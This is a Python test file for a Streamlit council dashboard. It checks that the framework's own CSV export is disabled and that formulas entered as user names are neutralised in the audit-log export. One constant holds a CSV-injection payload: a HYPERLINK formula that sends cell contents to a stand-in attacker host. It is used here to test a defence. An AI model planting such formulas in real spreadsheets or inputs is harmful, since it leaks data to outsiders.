"""Tables leave the app only through our export: neutralised and audited (issue 14, finding 5).

Streamlit's own "Download as CSV" on every table bypasses formula neutralisation and the audit
log, so it is turned off (``client.disableDataExport``) in the shipped config and in what ``serve``
sets, and the pages offer rc_dashboard.ui.auth.download_button where a table is worth having.
"""

from __future__ import annotations

import csv
import io
import tomllib

from streamlit import config as streamlit_config

from rc_dashboard import audit, deploy, users
from rc_dashboard.access import system_principal
from rc_dashboard.export import to_csv_text
from tests.app.conftest import ROOT, new_app

PASSWORD = "a long enough passphrase"
HOSTILE_USER = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


def test_streamlits_own_table_export_is_off_in_the_config_and_in_production():
    option = streamlit_config._config_options_template["client.disableDataExport"]  # exists in this Streamlit
    shipped = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert shipped["client"]["disableDataExport"] is True
    assert deploy.PRODUCTION_OPTIONS[option.env_var] == "true"


def test_a_formula_typed_as_a_user_name_is_neutralised_in_the_admins_export(council_database):
    users.save_users(users.add_user({}, "ann", "admin", name="Ann", password=PASSWORD))
    app = new_app().run()
    app.text_input[0].input(HOSTILE_USER)
    app.text_input[1].input("wrong password here")
    app.button[0].click().run()
    assert any("user name or password is wrong" in e.value for e in app.error)
    app.text_input[0].input("ann")
    app.text_input[1].input(PASSWORD)
    app.button[0].click().run()
    app.switch_page("pages/audit.py")
    app.run()
    assert not app.exception, [e.value for e in app.exception]
    buttons = [b.proto.label for b in app.get("download_button")]
    assert "Download the log (CSV)" in buttons, buttons
    # The page's download is to_csv_text(read_log(...)): the same call, read back as a spreadsheet would.
    exported = to_csv_text(audit.read_log(council_database, system_principal()))
    rows = list(csv.DictReader(io.StringIO(exported)))
    failed = [r for r in rows if r["action"] == "sign_in_failed"]
    assert failed and failed[0]["user_name"].startswith("'=")
    assert HOSTILE_USER.lower() in failed[0]["user_name"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values() if cell)


# The pages' buttons themselves are checked on the demo in tests/app/test_hostile_names.py.
